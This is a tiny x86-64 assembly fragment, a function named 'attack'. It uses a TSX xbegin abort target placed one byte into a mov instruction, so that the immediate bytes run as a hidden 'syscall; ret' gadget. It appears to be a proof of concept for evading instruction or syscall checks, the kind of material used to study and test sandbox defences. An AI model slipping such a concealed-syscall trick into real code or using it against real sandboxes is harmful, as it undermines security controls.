function attack
    xbegin 1f+1
1:  mov $0xc3050f,%eax
    ret
